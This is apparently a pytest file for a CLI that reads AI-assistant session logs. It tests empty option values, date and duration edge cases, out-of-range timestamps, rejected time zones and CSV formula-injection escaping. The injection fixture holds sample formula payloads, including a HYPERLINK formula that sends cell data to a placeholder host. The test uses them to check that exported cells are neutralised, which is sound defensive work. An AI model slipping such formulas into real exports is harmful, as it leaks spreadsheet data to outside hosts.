"""What surrounds the logs (issue 25): empty option values, dates and durations at the edges of
their range, time zones polars refuses, timestamps no datetime holds, CSV formula cells.

The output streams, the environment and the working directory, which are about the process,
are in tests/test_process_surroundings.py (the CLI run as a subprocess).
"""

from __future__ import annotations

import csv
import io
import time
from datetime import timedelta
from pathlib import Path
from typing import Any

import click
import orjson
import pytest
from click.testing import CliRunner, Result

from copilot_logs.cli import Command, main
from copilot_logs.durations import parse_duration
from copilot_logs.render.escape import one_line
from copilot_logs.render.formats import csv_cell
from synth import SessionBuilder, ToolCall, bash
from tests.conftest import SAMPLES


def run(*args: str | Path, input: bytes | None = None) -> Result:
    return CliRunner().invoke(main, [str(arg) for arg in args], input=input)


def _commands() -> list[tuple[list[str], click.Command]]:
    """Every command, with the words that call it (``cache info``)."""
    ctx = click.Context(main)
    found = []
    for name in main.list_commands(ctx):
        command = main.get_command(ctx, name)
        assert command is not None
        if isinstance(command, click.Group):
            found += [([name, sub], command.commands[sub]) for sub in command.commands]
        else:
            found.append(([name], command))
    return found


def _value_params() -> list[tuple[list[str], click.Parameter]]:
    """Every option that takes a value, and every argument, of every command."""
    return [
        (words, param)
        for words, command in _commands()
        for param in command.params
        if not (isinstance(param, click.Option) and (param.is_flag or param.count))
    ]


def test_every_command_refuses_empty_values() -> None:
    assert all(isinstance(command, Command) for _, command in _commands())


@pytest.mark.parametrize(
    ("words", "param"),
    _value_params(),
    ids=lambda v: " ".join(v) if isinstance(v, list) else str(v.name),
)
def test_an_empty_value_is_a_usage_error(
    words: list[str], param: click.Parameter, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`--select ''`, `--since ''`, `''` as a path or an argument, for every option and
    argument of every command: exit 2 with one Error line, never a silent "nothing" (a gate
    switched off, the current folder read)."""
    monkeypatch.chdir(tmp_path)  # were '' the current folder, nothing is written in the project
    out = [] if words != ["export"] or param.name == "out" else [tmp_path / "out"]
    if words == ["watch"]:  # were the value taken, watch would end (124), not follow for ever
        out = ["--until-done", "--timeout", "1s"]
    if isinstance(param, click.Option):
        args = [*words, *out, param.opts[0], ""]
    else:
        args = [*words, *out, ""]
    result = run(*args)
    assert result.exit_code == 2, (args, result.output)
    errors = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
    assert len(errors) == 1, result.stderr
    assert result.exception is None or isinstance(result.exception, SystemExit)


@pytest.mark.parametrize(
    "args",
    [
        ["validate", "--select", ",", SAMPLES],
        ["validate", "--select", " ", SAMPLES],
        ["validate", "--ignore", " , ", SAMPLES],
        ["audit", "--fail-on", ",", SAMPLES],
        ["audit", "--fail-on", "", SAMPLES],
        ["count", "--total", "--since", "", SAMPLES],
        ["count", "--total", "--until=", SAMPLES],
        ["count", "--total", SAMPLES, ""],
        ["export", ""],
        ["count", "--total", "--root", ""],
    ],
)
def test_a_value_that_names_nothing_is_a_usage_error(
    args: list[str | Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    result = run(*args)
    assert result.exit_code == 2, result.output
    assert "empty" in result.stderr
    assert "All checks passed" not in result.output and "OK" not in result.output


def test_a_path_may_be_named_by_blanks(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Only '' is empty for a path: a file named " " is a file."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / " ").write_bytes(
        (SAMPLES / "a1f0c3e2-4b5d-4c6e-8f70-0a1b2c3d4e5f" / "events.jsonl").read_bytes()
    )
    result = run("count", "--total", "./ ")
    assert result.exit_code == 0, result.output
    assert result.stdout.strip() == "4"


# --- dates at the edges of the range ---------------------------------------------------------

ALL_LINES = 53
"""LLM calls in sample_sessions (tests/test_samples.py checks it against the generator)."""

EDGES = [
    ("--since", "0001-01-01T00:00+05:00", ALL_LINES),  # before the earliest datetime: all
    ("--since", "0001-01-01", ALL_LINES),
    ("--since", "0001-01-01T00:00:00-23:59", ALL_LINES),
    ("--until", "9999-12-31", ALL_LINES),  # the end of that day is past the latest: all
    ("--until", "9999-12-31T23:59:59.999999-05:00", ALL_LINES),
    ("--until", "0001-01-01", 0),
    ("--until", "0001-01-01T00:00+05:00", 0),
    ("--since", "9999-12-31", 0),
    ("--since", "9999-12-31T23:00-05:00", 0),
]


@pytest.mark.parametrize("zone", ["UTC", "Asia/Tokyo", "America/Anchorage"])
@pytest.mark.parametrize(("option", "when", "calls"), EDGES)
def test_count_total_at_the_edges_of_the_date_range(
    option: str, when: str, calls: int, zone: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A bare date or naive time is local: in a zone east or west of UTC the edges of
    Python's datetime are crossed both ways (OverflowError before)."""
    monkeypatch.setenv("TZ", zone)
    time.tzset()
    try:
        result = run("count", "--total", option, when, SAMPLES)
    finally:
        monkeypatch.undo()
        time.tzset()
    assert result.exit_code == 0, result.output
    assert int(result.stdout) == calls


@pytest.mark.parametrize("words", [["sessions"], ["count"], ["usage"], ["timeline"], ["audit"]])
@pytest.mark.parametrize("window", [("0001-01-01T00:00+05:00", "9999-12-31")])
def test_every_command_takes_the_edges_of_the_date_range(
    words: list[str], window: tuple[str, str]
) -> None:
    since, until = window
    wide = run(*words, "--since", since, "--until", until, "--format", "json", SAMPLES)
    plain = run(*words, "--format", "json", SAMPLES)
    assert wide.exit_code == plain.exit_code, wide.output
    assert wide.stdout == plain.stdout  # nothing left out: the window holds every session
    empty = run(*words, "--since", until, "--until", since, "--format", "json", SAMPLES)
    assert empty.exception is None or isinstance(empty.exception, SystemExit), empty.output
    shown = orjson.loads(empty.stdout)
    assert (shown["rows"] if isinstance(shown, dict) else shown) == []  # and the window none


# --- timestamps no datetime holds ------------------------------------------------------------

ODD_TIMES = [
    "0001-01-01T00:00:00.000Z",
    "9999-12-31T23:59:59.999Z",
    "-0001-01-01T00:00:00Z",
    "+10000-01-01T00:00:00Z",
    "0001-01-01T00:00:00+05:00",
    "9999-12-31T23:00:00-05:00",
]


def _event(kind: str, event_id: str, at: str, data: dict[str, Any]) -> bytes:
    return orjson.dumps({"type": kind, "data": data, "id": event_id, "timestamp": at})


def _odd_log(folder: Path, session: str, at: str) -> Path:
    """A session with one LLM call whose session.start (line 1) and turn_end (line 4) hold
    ``at``; the prompt and the turn start hold ordinary times."""
    path = folder / session / "events.jsonl"
    path.parent.mkdir(parents=True)
    lines = [
        _event("session.start", "e1", at, {"sessionId": session, "startTime": at}),
        _event("user.message", "e2", "2026-08-05T07:49:02.000Z", {"content": "Go."}),
        _event("assistant.turn_start", "e3", "2026-08-05T07:49:03.000Z", {"turnId": "0"}),
        _event("assistant.turn_end", "e4", at, {"turnId": "0"}),
    ]
    path.write_bytes(b"\n".join(lines) + b"\n")
    return path


@pytest.fixture
def odd_root(tmp_path: Path) -> Path:
    """Six sessions with a timestamp no datetime holds, and one good session of 2 calls."""
    root = tmp_path / "session-state"
    for index, at in enumerate(ODD_TIMES):
        _odd_log(root, f"odd{index}", at)
    good = SessionBuilder(seed=7)
    good.user_message("Fix it.")
    good.turn("Looking.", [bash("ls", "a b")])
    good.turn("Done.")
    good.write_to(root)
    return root


def test_a_timestamp_no_datetime_holds_is_a_finding_on_its_line(odd_root: Path) -> None:
    sessions = run("sessions", "--format", "json", odd_root)
    assert sessions.exit_code == 0, sessions.output
    rows = orjson.loads(sessions.stdout)
    assert len(rows) == len(ODD_TIMES) + 1  # every session still listed
    odd = [row for row in rows if row["session_id"].startswith("odd")]
    assert {row["started_at"] for row in odd} == {"2026-08-05T07:49:02.000Z"}  # the first time
    counted = run("count", "--format", "json", odd_root)
    calls = {row["session_id"]: row["llm_calls"] for row in orjson.loads(counted.stdout)}
    assert sorted(calls.values()) == [1] * len(ODD_TIMES) + [2]
    assert run("count", "--total", odd_root).stdout.strip() == str(len(ODD_TIMES) + 2)
    report = orjson.loads(run("validate", "--format", "json", odd_root).stdout)
    e119 = {(f["session_id"], f["line"]) for f in report["findings"] if f["code"] == "E119"}
    assert e119 == {(f"odd{i}", line) for i in range(len(ODD_TIMES)) for line in (1, 4)}


@pytest.mark.parametrize(
    "words",
    [
        ["timeline", "--format", "json"],
        ["timeline"],
        ["usage"],
        ["audit", "--all"],
        ["count", "--by", "day"],
    ],
)
def test_every_command_reads_past_a_timestamp_no_datetime_holds(
    odd_root: Path, words: list[str]
) -> None:
    result = run(*words, odd_root)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    assert result.exit_code in (0, 1), result.output


def test_report_and_export_read_past_a_timestamp_no_datetime_holds(
    odd_root: Path, tmp_path: Path
) -> None:
    page = run("report", odd_root, "-o", tmp_path / "r.html")
    assert page.exit_code == 0, page.output
    exported = run("export", tmp_path / "out", odd_root)
    assert exported.exit_code == 0, exported.output
    assert f"Exported {len(ODD_TIMES) + 1} logs" in exported.stderr


@pytest.mark.parametrize("at", ODD_TIMES)
def test_watch_ndjson_reads_past_a_timestamp_no_datetime_holds(tmp_path: Path, at: str) -> None:
    log = _odd_log(tmp_path, "odd", at)
    result = run("watch", log, "--format", "ndjson", "--until-done", "--timeout", "1s")
    assert result.exit_code == 124, result.output  # an open turn: watch waits, then gives up
    records = [orjson.loads(line) for line in result.stdout.splitlines()]
    assert [r["kind"] for r in records][:3] == ["session_start", "prompt", "turn_start"]
    assert records[0]["at"] is None


def test_until_keeps_a_session_whose_start_no_datetime_holds(odd_root: Path) -> None:
    """Its start is read as unknown: the file's time (now) for a file, its first ordinary
    event for standard input; never a start in the year 9999 or 10000 that --until drops."""
    result = run("count", "--total", "--until", "2100-01-01", odd_root)
    assert result.stdout.strip() == str(len(ODD_TIMES) + 2)
    for index in range(len(ODD_TIMES)):
        log = odd_root / f"odd{index}" / "events.jsonl"
        piped = run("count", "--total", "--until", "2100-01-01", "-", input=log.read_bytes())
        assert piped.stdout.strip() == "1", (ODD_TIMES[index], piped.output)


# --- durations -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "seconds"),
    [
        ("60", 60),  # a bare number is seconds, as coreutils timeout reads it
        ("1.5", 1.5),
        ("0", 0),
        ("90s", 90),
        ("10m", 600),
        ("1h30m", 5400),
        ("2d", 172_800),
        ("36500d", 36_500 * 86_400),  # a hundred years: the longest taken
    ],
)
def test_a_duration_is_read_as_timeout_reads_it(text: str, seconds: float) -> None:
    assert parse_duration(text) == timedelta(seconds=seconds)


@pytest.mark.parametrize(
    "args",
    [
        ["watch", "--until-done", "--timeout", "99999999999d"],
        ["watch", "--until-done", "--timeout", "99999999999999999999999"],
        ["audit", "--running-within", "36501d"],
        ["watch", "--until-done", "--timeout", "1e999"],
        ["watch", "--until-done", "--timeout", "-5"],
        ["audit", "--running-within", "999999d"],
        ["audit", "--running-within", "99999999999999999999999"],
    ],
)
def test_a_duration_past_its_range_is_a_usage_error(args: list[str]) -> None:
    result = run(*args, SAMPLES / "18e7da49-bc24-4d35-b6e7-718293a4b5c6" / "events.jsonl")
    assert result.exit_code == 2, result.output
    assert [line for line in result.stderr.splitlines() if line.startswith("Error:")], result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)


def test_watch_timeout_takes_a_bare_number_of_seconds() -> None:
    open_log = SAMPLES / "18e7da49-bc24-4d35-b6e7-718293a4b5c6" / "events.jsonl"
    result = run("watch", open_log, "--until-done", "--timeout", "1")
    assert result.exit_code == 124, result.output
    assert "for 1s" in result.stderr


# --- time zones ------------------------------------------------------------------------------

POLARS_REFUSES = ["posixrules", "localtime", "Factory", "posix/Europe/Berlin", "right/UTC"]
"""Zone files Python's zoneinfo reads from the system, which polars' own database lacks."""


@pytest.mark.parametrize("zone", POLARS_REFUSES)
@pytest.mark.parametrize(
    "words", [["count", "--by", "day"], ["usage", "--by", "day"], ["report", "-o", "-"]]
)
def test_a_zone_polars_refuses_is_a_usage_error(words: list[str], zone: str) -> None:
    result = run(*words, "--tz", zone, SAMPLES)
    assert result.exit_code == 2, result.output
    errors = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
    assert errors == [
        f"Error: --tz {zone}: unknown time zone; use an IANA name like Europe/Berlin or UTC"
    ]


@pytest.mark.parametrize("zone", POLARS_REFUSES)
def test_a_local_zone_polars_refuses_is_passed_over(
    zone: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """TZ=posixrules: the day buckets fall back to the next candidate (or UTC)."""
    monkeypatch.setenv("TZ", zone)
    result = run("count", "--by", "day", "--format", "json", SAMPLES)
    assert result.exit_code == 0, result.output
    assert sum(row["llm_calls"] for row in orjson.loads(result.stdout)) == ALL_LINES


# --- CSV formula injection -------------------------------------------------------------------

FORMULAS = {
    "repository": '=HYPERLINK("https://x.example/?"&A1,"open")',
    "branch": "+1+1",
    "model": "@SUM(A1:A9)",
    "cwd": "-2+3",
    "tool": "\tcmd",
}


@pytest.fixture
def formula_root(tmp_path: Path) -> Path:
    root = tmp_path / "session-state"
    b = SessionBuilder(
        seed=5,
        repository=FORMULAS["repository"],
        branch=FORMULAS["branch"],
        model=FORMULAS["model"],
        cwd=FORMULAS["cwd"],
    )
    b.mode_changed("autopilot")
    b.user_message("Go.")
    b.turn("Running.", [ToolCall(FORMULAS["tool"], {"command": "ls"})])
    b.task_complete_turn("Done.")
    b.shutdown()
    b.write_to(root)
    return root


@pytest.mark.parametrize(
    "words",
    [
        ["sessions"],
        ["count", "--by", "repository"],
        ["count", "--by", "model"],
        ["audit", "--all"],
        ["usage", "--by", "repository"],
        ["usage", "--breakdown"],
        ["timeline"],
    ],
    ids=" ".join,
)
def test_csv_cells_never_start_a_formula(formula_root: Path, words: list[str]) -> None:
    result = run(*words, "--format", "csv", formula_root)
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells
    starts = [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert starts == []
    assert not [cell for cell in cells if cell.startswith("-") and not _number(cell)]
    quoted = {cell for cell in cells if cell.startswith("'")}
    assert quoted  # each command shows at least one of the names, quoted
    assert quoted <= {"'" + one_line(text) for text in FORMULAS.values()}


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_a_csv_number_is_not_quoted() -> None:
    assert csv_cell(-3) == "-3"
    assert csv_cell(-2.5) == "-2.5"
    assert csv_cell("-3") == "'-3"  # text from a log
    assert csv_cell("@x") == "'@x"
    assert csv_cell("\tx") == "' x"  # the tab shown as a space, as in every cell
    assert csv_cell("a=b") == "a=b"
